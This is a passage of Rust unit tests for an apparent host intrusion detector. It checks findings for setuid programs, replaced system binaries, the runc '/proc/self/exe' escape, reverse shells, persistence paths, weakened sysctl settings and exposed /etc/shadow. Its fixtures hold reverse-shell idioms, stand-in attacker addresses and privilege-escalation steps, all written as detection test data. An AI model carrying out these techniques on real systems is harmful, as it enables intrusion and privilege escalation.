/// The finding of technique check `rule` that `e` raises, if any (at most one).
fn by_rule(d: &mut Detector, e: &Event, rule: &str) -> Option<vigil_crds::finding::Finding> {
    let found: Vec<_> = d
        .process(e, &Known)
        .into_iter()
        .map(|o| o.finding)
        .filter(|f| f.context.additional.get("ruleId").map(String::as_str) == Some(rule))
        .collect();
    assert!(found.len() <= 1, "{found:?}");
    found.into_iter().next()
}

/// A setuid or setgid mode the kernel saw asked for (`setId`) is judged by the mode read back
/// and by who asked: any program but a package manager's lineage and the image unpackers;
/// a directory, a refused or cleared bit, a mode without the bits raise nothing.
#[test]
fn a_set_id_mode_is_judged_by_the_mode_read_back_and_the_writer() {
    use crate::event::{ProgramContent, WrittenProgram};
    let made = |process: ProcessRef, op: &'static str, path: &str, mode: Option<u32>| {
        let mut d = detector();
        let e = file_event(op, path, |f| {
            f.process = process;
            f.matched_by = vec!["setId"];
            f.program_written = mode.map(|mode| WrittenProgram {
                mode,
                uid: 0,
                content: ProgramContent::Elf,
            });
        });
        by_rule(&mut d, &e, "behaviour-setid-program-made")
    };
    let f = made(known(BASH), "chmod", "/tmp/.x", Some(0o104755)).expect("chmod u+s");
    assert_eq!(
        f.finding_type,
        "PrivilegeEscalation:Runtime/SuspiciousCommand"
    );
    assert_eq!(f.severity_label, SeverityLabel::Medium);
    let add = &f.context.additional;
    assert_eq!(add["setIdBits"], "setuid");
    assert_eq!(add["fileMode"], "4755");
    assert_eq!(add["fileOwnerUid"], "0");
    assert_eq!(add["writerExecutable"], "/usr/bin/bash");
    // Created with the mode (`open(p, O_CREAT, 06755)`).
    let f = made(known(BASH), "openWrite", "/srv/y", Some(0o106755)).expect("open 06755");
    assert_eq!(f.context.additional["setIdBits"], "setuid and setgid");
    // In a system program directory: High.
    let f = made(known(BASH), "chmod", "/usr/bin/y", Some(0o102755)).expect("in /usr/bin");
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.context.additional["setIdBits"], "setgid");
    // The package manager and the image unpackers give modes as their job.
    assert!(made(known(DPKG), "chmod", "/usr/bin/passwd", Some(0o104755)).is_none());
    assert!(
        made(
            known(CONTAINERD),
            "chmod",
            "/var/lib/c/x/usr/bin/su",
            Some(0o104755)
        )
        .is_none()
    );
    // A program that was setuid when the agent started, given its mode again by a chmod: not
    // made setuid now. Copied over or written, it still counts.
    let mut d = Detector::new(
        Arc::new(SharedIntel::new(ThreatIntel::empty())),
        None,
        RuleSet::builtin_shared(),
        Vec::new(),
        DetectorConfig {
            privileged_programs: [PathBuf::from("/usr/bin/sudo")].into(),
            ..DetectorConfig::default()
        },
        Clock::with_offset(1_700_000_000_000_000_000),
    );
    let again = |d: &mut Detector, op: &'static str| {
        let e = file_event(op, "/usr/bin/sudo", |f| {
            f.process = known(BASH);
            f.matched_by = vec!["setId"];
            f.program_written = Some(WrittenProgram {
                mode: 0o104755,
                uid: 0,
                content: ProgramContent::Elf,
            });
        });
        by_rule(d, &e, "behaviour-setid-program-made")
    };
    assert!(again(&mut d, "chmod").is_none(), "chmod 4755 /usr/bin/sudo");
    assert!(
        again(&mut d, "openWrite").is_some(),
        "created with the mode"
    );
    assert!(made(known(BASH), "chmod", "/usr/bin/sudo", Some(0o104755)).is_some());
    // A directory or a file gone (nothing read back), a bit the kernel cleared.
    assert!(made(known(BASH), "chmod", "/srv/shared", None).is_none());
    assert!(made(known(BASH), "chmod", "/tmp/z", Some(0o100755)).is_none());
    // Without the kernel's flag (a chmod +x the sensitive set reported): not this check.
    let mut d = detector();
    let e = file_event("chmod", "/etc/cron.daily/x", |f| {
        f.process = known(BASH);
        f.program_written = Some(WrittenProgram {
            mode: 0o104755,
            uid: 0,
            content: ProgramContent::Elf,
        });
    });
    assert!(d.process(&e, &Known).into_iter().all(|o| {
        o.finding
            .context
            .additional
            .get("ruleId")
            .map(String::as_str)
            != Some("behaviour-setid-program-made")
    }));
}

/// How bad a replaced system program is, and what the finding says about it: High for the
/// programs that take passwords or grant privileges, for a setuid or setgid program (now, or
/// when the agent started), Medium otherwise; the writer's executable and whether the new
/// content is a script in the context.
/// CVE-2019-5736's first step: a system program rewritten as `#!/proc/self/exe`, in a container
/// or on the host, by anyone (a package manager included): the runtime-escape type, besides the
/// program replaced. A script with any other interpreter is only the replacement.
#[test]
fn a_system_program_made_a_script_of_its_callers_own_executable() {
    use crate::event::{ProgramContent, WrittenProgram};
    let written = |content: ProgramContent| {
        Some(WrittenProgram {
            mode: 0o100755,
            uid: 0,
            content,
        })
    };
    let mut d = detector();
    let trap = file_event("openWrite", "/bin/sh", |f| {
        f.process.container = container();
        f.process.host_namespaces = false;
        f.program_written = written(ProgramContent::SelfExeScript);
    });
    let f = by_rule(&mut d, &trap, "behaviour-self-exe-interpreter").expect("the trap");
    assert_eq!(
        f.finding_type,
        "PrivilegeEscalation:Runtime/RuncContainerEscape"
    );
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.context.additional["programContent"], "selfExeScript");
    assert!(
        f.description.contains("in a container"),
        "{}",
        f.description
    );
    assert!(by_rule(&mut d, &trap, "behaviour-system-binary-replaced").is_some());
    // On the host, by dpkg: still the trap.
    let by_dpkg = file_event("openWrite", "/usr/bin/tool", |f| {
        f.process = known(DPKG);
        f.program_written = written(ProgramContent::SelfExeScript);
    });
    assert!(by_rule(&mut d, &by_dpkg, "behaviour-self-exe-interpreter").is_some());
    // Moved into place (`mv x /bin/sh`).
    let moved = file_event("rename", "/tmp/x", |f| {
        f.path2 = Some("/bin/sh".into());
        f.resolved_path2 = Some(PathBuf::from("/bin/sh"));
        f.ret = 0;
        f.program_written = written(ProgramContent::SelfExeScript);
    });
    assert!(by_rule(&mut d, &moved, "behaviour-self-exe-interpreter").is_some());
    // Another interpreter, or the same script outside the program directories: not the trap.
    let plain = file_event("openWrite", "/bin/sh", |f| {
        f.process.container = container();
        f.program_written = written(ProgramContent::Script);
    });
    assert!(by_rule(&mut d, &plain, "behaviour-self-exe-interpreter").is_none());
    let elsewhere = file_event("openWrite", "/srv/app/run", |f| {
        f.program_written = written(ProgramContent::SelfExeScript);
    });
    assert!(by_rule(&mut d, &elsewhere, "behaviour-self-exe-interpreter").is_none());
}

#[test]
fn a_replaced_system_program_is_judged_by_what_it_was_and_is() {
    use crate::event::{ProgramContent, WrittenProgram};
    let replaced = |d: &mut Detector, e: Event| by_rule(d, &e, "behaviour-system-binary-replaced");
    let written = |mode: u32, content: ProgramContent| {
        Some(WrittenProgram {
            mode,
            uid: 0,
            content,
        })
    };
    let mut d = detector();
    // `cat > /usr/bin/sudo` with a wrapper script: High, the content a script.
    let f = replaced(
        &mut d,
        file_event("openWrite", "/usr/bin/sudo", |f| {
            f.process = known(BASH);
            f.program_written = written(0o100755, ProgramContent::Script);
        }),
    )
    .expect("sudo replaced");
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.finding_type, "Persistence:Runtime/SuspiciousCommand");
    let add = &f.context.additional;
    assert_eq!(add["privilegedProgram"], "authentication");
    assert_eq!(add["programContent"], "script");
    assert_eq!(add["writerExecutable"], "/usr/bin/bash");
    assert_eq!(add["systemBinaryDir"], "/usr/bin/");
    assert!(f.description.contains("a script"), "{}", f.description);
    // A new setuid program (`install -m 4755 x /usr/bin/y`): High.
    let f = replaced(
        &mut d,
        file_event("openWrite", "/usr/bin/y", |f| {
            f.program_written = written(0o104755, ProgramContent::Elf);
        }),
    )
    .expect("setuid drop");
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.context.additional["privilegedProgram"], "setuid");
    assert_eq!(f.context.additional["programContent"], "elf");
    // A setgid one.
    let f = replaced(
        &mut d,
        file_event("openWrite", "/usr/sbin/z", |f| {
            f.program_written = written(0o102755, ProgramContent::Elf);
        }),
    )
    .expect("setgid drop");
    assert_eq!(f.context.additional["privilegedProgram"], "setgid");
    // An ordinary program, new or replaced: Medium, nothing privileged said.
    let f = replaced(
        &mut d,
        file_event("rename", "/tmp/x", |f| {
            f.path2 = Some("/usr/bin/ps".into());
            f.resolved_path2 = Some(PathBuf::from("/usr/bin/ps"));
            f.program_written = written(0o100755, ProgramContent::Elf);
        }),
    )
    .expect("ps replaced");
    assert_eq!(f.severity_label, SeverityLabel::Medium);
    assert!(!f.context.additional.contains_key("privilegedProgram"));
    // Not read back (the file gone already): judged by its name alone.
    let f =
        replaced(&mut d, file_event("openWrite", "/usr/sbin/sshd", |_| {})).expect("sshd replaced");
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert!(!f.context.additional.contains_key("programContent"));
    // A program that was setuid when the agent started, replaced by a file without the bit
    // (`mv x /usr/bin/mount`): High.
    let mut d = Detector::new(
        Arc::new(SharedIntel::new(ThreatIntel::empty())),
        None,
        RuleSet::builtin_shared(),
        Vec::new(),
        DetectorConfig {
            privileged_programs: [PathBuf::from("/usr/bin/mount")].into(),
            ..DetectorConfig::default()
        },
        Clock::with_offset(1_700_000_000_000_000_000),
    );
    let f = replaced(
        &mut d,
        file_event("rename", "/tmp/m", |f| {
            f.path2 = Some("/usr/bin/mount".into());
            f.resolved_path2 = Some(PathBuf::from("/usr/bin/mount"));
            f.program_written = written(0o100755, ProgramContent::Elf);
        }),
    )
    .expect("mount replaced");
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.context.additional["privilegedProgram"], "wasSetuid");
    // What is no system program: a directory's entry below /usr/bin, /usr/local, a path with
    // `..`.
    for path in [
        "/usr/bin/x/y",
        "/usr/local/bin/sudo",
        "/usr/local/libexec/x",
        "/usr/lib/openssh/x/y",
        "/usr/libexec/../bin/x",
    ] {
        assert!(
            super::technique::system_program_dir(path).is_none(),
            "{path}"
        );
    }
    assert_eq!(
        super::technique::system_program_dir("/usr/libexec/openssh/sshd-session"),
        Some(("/usr/libexec/", "openssh/sshd-session"))
    );
}

/// The setuid and setgid programs found at start, by the path the kernel names them with.
#[test]
fn privileged_programs_are_found_in_the_system_directories_only() {
    use std::os::unix::fs::PermissionsExt;
    let root = std::env::temp_dir().join(format!("vigil-privileged-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    for (path, mode) in [
        ("usr/bin/su", 0o4755),
        ("usr/bin/ls", 0o755),
        ("usr/sbin/unix_chkpwd", 0o2755),
        ("usr/libexec/polkit/helper", 0o4755),
        ("usr/local/bin/mine", 0o4755),
        ("usr/lib/openssh/ssh-keysign", 0o4755),
    ] {
        let file = root.join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, b"x").unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let found = super::host::privileged_programs(&root);
    let _ = std::fs::remove_dir_all(&root);
    let want: std::collections::BTreeSet<PathBuf> = [
        "/usr/bin/su",
        "/usr/sbin/unix_chkpwd",
        "/usr/libexec/polkit/helper",
        "/usr/lib/openssh/ssh-keysign",
    ]
    .into_iter()
    .map(PathBuf::from)
    .collect();
    assert_eq!(found, want);
}

#[test]
fn each_account_grant_names_the_account_with_its_rule_and_severity() {
    use super::accounts::{AccountChanges, AdminMember, Passwordless};
    let event = file_event("rename", "/etc/passwd+", |f| {
        f.process = known(USERADD);
        f.path2 = Some("/etc/passwd".into());
        f.resolved_path2 = Some(PathBuf::from("/etc/passwd"));
        f.ret = 0;
        f.accounts_changed = Some(AccountChanges {
            root_added: vec!["elx".into()],
            passwordless_added: vec![
                Passwordless {
                    name: "elx".into(),
                    root: true,
                },
                Passwordless {
                    name: "ann".into(),
                    root: false,
                },
            ],
            admin_members_added: vec![AdminMember {
                group: "wheel".into(),
                member: "bob".into(),
            }],
        });
    });
    let mut d = detector();
    let found: Vec<_> = d
        .process(&event, &Known)
        .into_iter()
        .map(|o| {
            let a = &o.finding.context.additional;
            assert_eq!(
                o.finding.finding_type,
                "PrivilegeEscalation:Runtime/SuspiciousCommand"
            );
            assert_eq!(o.finding.context.file_path.as_deref(), Some("/etc/passwd"));
            (
                a.get("ruleId").cloned().unwrap_or_default(),
                a.get("account").cloned().unwrap_or_default(),
                a.get("group").cloned(),
                o.finding.severity_label,
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            (
                "behaviour-root-account-added".to_owned(),
                "elx".to_owned(),
                None,
                SeverityLabel::High
            ),
            (
                "behaviour-passwordless-account".to_owned(),
                "elx".to_owned(),
                None,
                SeverityLabel::High
            ),
            (
                "behaviour-passwordless-account".to_owned(),
                "ann".to_owned(),
                None,
                SeverityLabel::Medium
            ),
            (
                "behaviour-admin-group-member-added".to_owned(),
                "bob".to_owned(),
                Some("wheel".to_owned()),
                SeverityLabel::Medium
            ),
        ]
    );
    // The same grants again aggregate into the same findings (one per account).
    assert_eq!(d.process(&event, &Known).len(), 4);
}

#[test]
fn a_command_a_shell_runs_with_its_output_on_a_socket_the_shell_put_there_is_a_reverse_shell() {
    let reverse = |events: &[Event]| {
        run_all(events)
            .into_iter()
            .filter(|(t, _, _)| t == "Execution:Runtime/ReverseShell")
            .map(|(_, rule, _)| rule)
            .collect::<Vec<_>>()
    };
    let script = exec_by(
        800,
        "/usr/bin/bash",
        &["bash", "loop.sh"],
        &[(200, "/usr/bin/bash")],
    );
    let id_from = |pid: u32, parent: u32, parent_exe: &str| {
        exec_by(
            pid,
            "/usr/bin/id",
            &["id"],
            &[(parent, parent_exe), (200, "/usr/bin/bash")],
        )
    };
    let expected = ["behaviour-reverse-shell-command-socket"];
    // `while read line; do $line 2>&5 >&5; done`: the fork puts the socket on its standard
    // output, then execs the command.
    assert_eq!(
        reverse(&[
            script.clone(),
            dup_socket(801, "bash", 1, "inet", "192.0.2.7:4444"),
            dup_socket(801, "bash", 2, "inet", "192.0.2.7:4444"),
            id_from(801, 800, "/usr/bin/bash"),
        ]),
        expected
    );
    // `exec 0<&5 1>&5`: the shell's own streams, then a command it runs.
    assert_eq!(
        reverse(&[
            script.clone(),
            dup_socket(800, "bash", 0, "inet6", "[2001:db8::7]:4444"),
            dup_socket(800, "bash", 1, "inet6", "[2001:db8::7]:4444"),
            id_from(802, 800, "/usr/bin/bash"),
        ]),
        expected
    );
    // Standard input only (`cat <&3`: a page fetched with bash), standard error only, a parent
    // that is no shell, and a fork that exec'd something else before: nothing.
    for events in [
        vec![
            script.clone(),
            dup_socket(803, "bash", 0, "inet", "192.0.2.7:80"),
            exec_by(
                803,
                "/usr/bin/cat",
                &["cat"],
                &[(800, "/usr/bin/bash"), (200, "/usr/bin/bash")],
            ),
        ],
        vec![
            script.clone(),
            dup_socket(804, "bash", 2, "inet", "192.0.2.7:4444"),
            id_from(804, 800, "/usr/bin/bash"),
        ],
        vec![
            exec_by(
                700,
                "/usr/bin/python3.11",
                &["python3", "-c", "x"],
                &[(200, "/usr/bin/bash")],
            ),
            dup_socket(700, "python3", 1, "inet", "192.0.2.7:4444"),
            id_from(805, 700, "/usr/bin/python3.11"),
        ],
        vec![
            script.clone(),
            exec_by(
                806,
                "/usr/bin/env",
                &["env", "id"],
                &[(800, "/usr/bin/bash"), (200, "/usr/bin/bash")],
            ),
            dup_socket(806, "env", 1, "inet", "192.0.2.7:4444"),
            id_from(806, 800, "/usr/bin/bash"),
        ],
    ] {
        assert!(reverse(&events).is_empty(), "{events:?}");
    }
}

/// Shocker's open by handle and a block device made in a container are High when the kernel
/// did them, Medium as refused attempts, each under its rule id.
#[test]
fn a_handle_open_and_a_block_device_in_a_container_are_high_done_and_medium_refused() {
    for (operation, rule) in [
        ("openByHandleAt", "behaviour-container-open-by-handle"),
        ("mknod", "behaviour-container-block-device-made"),
    ] {
        for (ret, severity) in [(3, 8.0), (-1, 5.0)] {
            let mut d = detector();
            let event = activity(operation, |a| {
                a.process.container = container();
                a.target = Some("/tmp/disk".into());
                a.device = Some("8:0".into());
                a.ret = ret;
                a.error = (ret < 0).then(|| "EPERM".into());
            });
            let found = d.process(&event, &Known);
            assert_eq!(found.len(), 1, "{operation} {ret}");
            let f = &found[0].finding;
            assert_eq!(
                f.context.additional.get("ruleId").map(String::as_str),
                Some(rule)
            );
            assert_eq!(f.severity, severity, "{operation} {ret}");
            assert_eq!(
                f.context
                    .additional
                    .get("mitreTechniques")
                    .map(String::as_str),
                Some("T1611")
            );
        }
    }
}

/// DataDog's Cloud Workload Security pass: busybox crond's tables, udev's runtime and
/// administrator rule directories and the name service switch are persistence places; names
/// beside them, and the name service switch's editors, are not.
#[test]
fn busybox_cron_tables_udev_runtime_rules_and_the_name_service_switch_are_persistence() {
    let sh = exec_by(
        350,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for (path, rule, kind) in [
        ("/etc/crontabs/root", "behaviour-persistence-cron", "cron"),
        ("/etc/crontabs/nobody", "behaviour-persistence-cron", "cron"),
        (
            "/run/udev/rules.d/99-x.rules",
            "behaviour-persistence-udev",
            "udev",
        ),
        (
            "/usr/local/lib/udev/rules.d/99-x.rules",
            "behaviour-persistence-udev",
            "udev",
        ),
        ("/etc/nsswitch.conf", "behaviour-persistence-nss", "nss"),
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(350, "sh", path)]),
            kind_of(rule, kind),
            "{path}"
        );
    }
    for path in [
        "/etc/crontabs.bak/root",
        "/run/udev/data/b8:0",
        "/run/udev/rules.d.bak",
        "/usr/local/lib/udev/hwdb.d/x.hwdb",
        "/etc/nsswitch.conf.bak",
        "/etc/nsswitch.conf.d/x",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(350, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // Alpine's shell is busybox: its redirection into crond's tables is not the crontab
    // applet's work.
    let busybox_sh = exec_by(
        353,
        "/bin/busybox",
        &["sh", "-c", "x"],
        &[(200, "/bin/busybox")],
    );
    assert_eq!(
        persistence_kinds(&[busybox_sh, write_by(353, "sh", "/etc/crontabs/root")]),
        kind_of("behaviour-persistence-cron", "cron")
    );
    // Editors and authselect write the name service switch.
    for (pid, exe) in [(351, "/usr/bin/vim.basic"), (352, "/usr/bin/authselect")] {
        let name = super::basename(exe);
        assert!(
            persistence_kinds(&[
                exec_by(
                    pid,
                    exe,
                    &[name, "/etc/nsswitch.conf"],
                    &[(200, "/usr/bin/bash")]
                ),
                write_by(pid, name, "/etc/nsswitch.conf"),
            ])
            .is_empty(),
            "{exe}"
        );
    }
}

#[test]
fn a_kernel_settings_file_written_with_a_weak_setting_is_defense_evasion() {
    let sh = exec_by(
        330,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    let written = |path: &str, text: &str| {
        file_event("openWrite", path, |f| {
            f.process = proc_ref(330, "sh");
            f.sysctl_file = Some(text.to_owned());
        })
    };
    for (path, text, kind) in [
        (
            "/etc/sysctl.d/99-x.conf",
            "kernel.randomize_va_space=0\n",
            "DefenseEvasion",
        ),
        (
            "/etc/sysctl.d/99-x.conf",
            "# tuning\nnet.ipv4.ip_forward = 1\n  kernel.randomize_va_space = 1\n",
            "DefenseEvasion",
        ),
        (
            "/etc/sysctl.conf",
            "kernel/yama/ptrace_scope=0\n",
            "DefenseEvasion",
        ),
        (
            "/run/sysctl.d/10-x.conf",
            "-kernel.kptr_restrict = 0\n",
            "DefenseEvasion",
        ),
        (
            "/usr/lib/sysctl.d/99-x.conf",
            "; comment\nfs.protected_symlinks=0\nfs.protected_hardlinks = 0\n",
            "DefenseEvasion",
        ),
        (
            "/usr/local/lib/sysctl.d/99-x.conf",
            "kernel.perf_event_paranoid=-1\n",
            "DefenseEvasion",
        ),
        (
            "/etc/sysctl.d/99-x.conf",
            "kernel.core_pattern=|/tmp/x %p\n",
            "PrivilegeEscalation",
        ),
    ] {
        let found = run_all(&[sh.clone(), written(path, text)]);
        assert_eq!(
            found,
            vec![(
                format!("{kind}:Runtime/SensitiveFileModified"),
                "behaviour-sysctl-file-weakened".to_owned(),
                SeverityLabel::Medium
            )],
            "{path}: {text}"
        );
    }
    // Ordinary tuning, full ASLR, a weak value replaced by a later line, a commented setting,
    // systemd's own core-dump handler, a file sysctl does not read, and a package manager
    // writing a weak value: nothing at all (no SensitiveFileModified either).
    for (path, text) in [
        ("/etc/sysctl.d/99-x.conf", "vm.swappiness=10\n"),
        ("/etc/sysctl.d/99-x.conf", "kernel.randomize_va_space = 2\n"),
        (
            "/etc/sysctl.conf",
            "kernel.kptr_restrict=0\nkernel.kptr_restrict=1\n",
        ),
        ("/etc/sysctl.conf", "#kernel.yama.ptrace_scope=0\n"),
        (
            "/usr/lib/sysctl.d/50-coredump.conf",
            "kernel.core_pattern=|/lib/systemd/systemd-coredump %P %u %g %s %t %c %h\n",
        ),
        (
            "/usr/lib/sysctl.d/50-pid-max.conf",
            "kernel.pid_max = 4194304\n",
        ),
        ("/etc/sysctl.d/README.sysctl", "kernel.kptr_restrict=0\n"),
        // A dot inside the slash form is part of the name (an interface), not a separator.
        (
            "/etc/sysctl.d/99-x.conf",
            "net/ipv4/conf/eth0.1/rp_filter = 0\n",
        ),
    ] {
        let found = run_all(&[sh.clone(), written(path, text)]);
        assert!(found.is_empty(), "{path}: {text}: {found:?}");
    }
    let dpkg = exec_by(
        331,
        "/usr/bin/dpkg",
        &["dpkg", "-i", "x.deb"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    let by_dpkg = file_event("openWrite", "/etc/sysctl.d/99-x.conf", |f| {
        f.process = proc_ref(331, "dpkg");
        f.sysctl_file = Some("kernel.kptr_restrict=0\n".to_owned());
    });
    let found = run_all(&[dpkg, by_dpkg]);
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn kernel_settings_files_are_read_where_sysctl_reads_them() {
    use super::technique::is_sysctl_file;
    for path in [
        "/etc/sysctl.conf",
        "/etc/sysctl.d/99-x.conf",
        "/run/sysctl.d/x.conf",
        "/usr/lib/sysctl.d/50-default.conf",
        "/lib/sysctl.d/x.conf",
        "/usr/local/lib/sysctl.d/x.conf",
    ] {
        assert!(is_sysctl_file(std::path::Path::new(path)), "{path}");
    }
    for path in [
        "/etc/sysctl.d/README.sysctl",
        "/etc/sysctl.d/sub/x.conf",
        "/etc/sysctl.conf.bak",
        "/tmp/sysctl.d/x.conf",
        "/etc/sysctl.d/",
    ] {
        assert!(!is_sysctl_file(std::path::Path::new(path)), "{path}");
    }
}

#[test]
fn the_password_hashes_made_accessible_to_every_account() {
    let chmod = |path: &str, mode: &str| {
        file_event("chmod", path, |f| {
            f.process = proc_ref(340, "chmod");
            f.mode = Some(mode.to_owned());
            f.ret = 0;
        })
    };
    for (path, mode) in [
        ("/etc/shadow", "644"),
        ("/etc/shadow", "604"),
        ("/etc/gshadow", "100644"),
        ("/etc/gshadow", "666"),
        ("/etc/shadow-", "644"),
    ] {
        let found = run_all(&[chmod(path, mode)]);
        assert_eq!(
            found,
            vec![(
                "PrivilegeEscalation:Runtime/SensitiveFileModified".to_owned(),
                "behaviour-password-hashes-exposed".to_owned(),
                SeverityLabel::High
            )],
            "{path} {mode}"
        );
    }
    // The distributions' modes, a refused chmod, and another file of the set given to others
    // (the pipeline keeps no such chmod; here it is the generic check's, not this rule's).
    for (path, mode) in [
        ("/etc/shadow", "640"),
        ("/etc/gshadow", "600"),
        ("/etc/shadow", "0"),
    ] {
        let found = run_all(&[chmod(path, mode)]);
        assert!(found.is_empty(), "{path} {mode}: {found:?}");
    }
    let refused = file_event("chmod", "/etc/shadow", |f| {
        f.mode = Some("644".into());
        f.ret = -1;
    });
    assert!(run_all(&[refused]).is_empty());
    let passwd = run_all(&[chmod("/etc/passwd", "644")]);
    assert!(
        passwd
            .iter()
            .all(|(_, r, _)| r != "behaviour-password-hashes-exposed"),
        "{passwd:?}"
    );
    // A chown, judged by the owner, group and mode read back.
    let chown = |path: &str, mode: u32, uid: u32, gid: u32, group: Option<&str>| {
        let e = file_event("chown", path, |f| {
            f.process = proc_ref(341, "chown");
            f.ret = 0;
            f.hashes_owner = Some(crate::event::HashesOwner {
                mode: 0o100000 | mode,
                uid,
                gid,
                group: group.map(str::to_owned),
                acl: Vec::new(),
            });
        });
        run_all(&[e])
            .into_iter()
            .filter(|(_, r, _)| r == "behaviour-password-hashes-exposed")
            .map(|(_, _, l)| l)
            .collect::<Vec<_>>()
    };
    for (what, path, mode, uid, gid, group) in [
        (
            "an account owns it",
            "/etc/shadow",
            0o640,
            65534,
            42,
            Some("shadow"),
        ),
        (
            "a group reads it",
            "/etc/gshadow",
            0o640,
            0,
            100,
            Some("users"),
        ),
        (
            "a group without a name",
            "/etc/shadow",
            0o660,
            0,
            1234,
            None,
        ),
        (
            "a group called shadow is not root's",
            "/etc/shadow",
            0o604,
            0,
            42,
            Some("shadow"),
        ),
    ] {
        let want = if what.ends_with("not root's") {
            // 0604 gives others read: the chmod's business; a chown to shadow gives nothing.
            vec![]
        } else {
            vec![SeverityLabel::High]
        };
        assert_eq!(chown(path, mode, uid, gid, group), want, "{what}");
    }
    for (what, mode, uid, gid, group) in [
        ("root:shadow", 0o640, 0, 42, Some("shadow")),
        ("root:root", 0o640, 0, 0, Some("root")),
        (
            "an account owns it without access",
            0o000,
            1000,
            0,
            Some("root"),
        ),
        ("a group without read", 0o600, 0, 100, Some("users")),
    ] {
        assert!(
            chown("/etc/shadow", mode, uid, gid, group).is_empty(),
            "{what}"
        );
    }
    // An access ACL set, judged by its entries read back (the mask limits named entries).
    let acl = |entries: &[(&'static str, Option<u32>, u16, Option<&str>)]| {
        let e = file_event("setAcl", "/etc/shadow", |f| {
            f.process = proc_ref(342, "setfacl");
            f.ret = 0;
            f.hashes_owner = Some(crate::event::HashesOwner {
                mode: 0o100640,
                uid: 0,
                gid: 42,
                group: Some("shadow".into()),
                acl: entries
                    .iter()
                    .map(|(tag, id, perm, name)| crate::detect::accounts::AclEntry {
                        tag,
                        id: *id,
                        perm: *perm,
                        name: name.map(str::to_owned),
                    })
                    .collect(),
            });
        });
        run_all(&[e])
            .into_iter()
            .filter(|(_, r, _)| r == "behaviour-password-hashes-exposed")
            .count()
    };
    let base = [
        ("userObj", None, 6, None),
        ("groupObj", None, 4, None),
        ("other", None, 0, None),
    ];
    let with = |extra: &[(&'static str, Option<u32>, u16, Option<&str>)]| {
        let mut all = base.to_vec();
        all.extend_from_slice(extra);
        acl(&all)
    };
    assert_eq!(
        with(&[("user", Some(65534), 4, None), ("mask", None, 4, None)]),
        1
    );
    assert_eq!(
        with(&[
            ("group", Some(100), 6, Some("users")),
            ("mask", None, 6, None)
        ]),
        1
    );
    assert_eq!(
        with(&[("group", Some(1234), 4, None)]),
        1,
        "no mask, no name"
    );
    assert_eq!(acl(&[("other", None, 4, None)]), 1, "others");
    assert_eq!(
        with(&[("user", Some(65534), 4, None), ("mask", None, 0, None)]),
        0,
        "masked out"
    );
    assert_eq!(with(&[("group", Some(42), 4, Some("shadow"))]), 0);
    assert_eq!(with(&[("user", Some(0), 6, None)]), 0, "root");
    assert_eq!(with(&[("user", Some(65534), 1, None)]), 0, "execute only");
    assert_eq!(acl(&[]), 0, "no ACL read back");
    // Not read back (refused, or another file): nothing of this check's.
    let unread = file_event("chown", "/etc/shadow", |f| f.ret = 0);
    assert!(
        run_all(&[unread])
            .iter()
            .all(|(_, r, _)| r != "behaviour-password-hashes-exposed")
    );
}

#[test]
fn an_interpreter_connected_out_running_what_it_reads_is_a_reverse_shell() {
    let interpreter =
        |pid: u32, exe: &str, argv: &[&str]| exec_by(pid, exe, argv, &[(200, "/usr/bin/bash")]);
    let connect = |pid: u32, remote: &str| {
        Event::Connect(NetInfo {
            time: "2026-11-27T10:00:00Z".into(),
            process: proc_ref(pid, "interp"),
            ret: 0,
            error: None,
            fd: 3,
            family: "inet",
            protocol: "tcp",
            remote: Some(remote.parse().unwrap()),
            unix_path: None,
            repeats: 0,
            outcome: None,
        })
    };
    // A child of `parent` with its standard output on a pipe (the interpreter captures it).
    let child = |pid: u32, parent: (u32, &str), exe: &str, argv: &[&str], captured: bool| {
        let mut e = exec_by(pid, exe, argv, &[parent, (200, "/usr/bin/bash")]);
        if let Event::Exec(x) = &mut e {
            x.stdout_pipe = captured.then_some(77);
        }
        e
    };
    let tcl = (410, "/usr/bin/tclsh8.6");
    let python = (420, "/usr/bin/python3.11");
    let perl = (430, "/usr/bin/perl");
    let loop_rule = |events: &[Event]| {
        run_all(events)
            .into_iter()
            .filter(|(_, r, _)| r == "behaviour-reverse-shell-command-loop")
            .collect::<Vec<_>>()
    };
    let raised = vec![(
        "Execution:Runtime/ReverseShell".to_owned(),
        "behaviour-reverse-shell-command-loop".to_owned(),
        SeverityLabel::High,
    )];
    // tclsh's exec loop: the program run by tclsh itself.
    assert_eq!(
        loop_rule(&[
            interpreter(tcl.0, tcl.1, &["tclsh", "/root/x.tcl"]),
            connect(tcl.0, "127.0.0.1:4444"),
            child(411, tcl, "/usr/bin/id", &["id"], true),
        ]),
        raised
    );
    // python's `subprocess.run(line, shell=True, capture_output=True)`: the line keeps its
    // newline; perl's backticks of a line with shell syntax likewise.
    assert_eq!(
        loop_rule(&[
            interpreter(python.0, python.1, &["python3", "-c", "..."]),
            connect(python.0, "192.0.2.7:443"),
            child(
                421,
                python,
                "/usr/bin/dash",
                &["/bin/sh", "-c", "id\n"],
                true
            ),
        ]),
        raised
    );
    assert_eq!(
        loop_rule(&[
            interpreter(perl.0, perl.1, &["perl", "-e", "..."]),
            connect(perl.0, "127.0.0.1:4444"),
            child(
                431,
                perl,
                "/usr/bin/dash",
                &["sh", "-c", "ls | head\n"],
                true
            ),
        ]),
        raised
    );
    // Not a loop: tclsh running a program with no connect out (or its output not captured,
    // or only a unix socket); python running a command string with no trailing newline, a
    // program directly, or a multi-line script after a connect; a connect that was refused;
    // a connect of the image before an exec.
    for events in [
        vec![
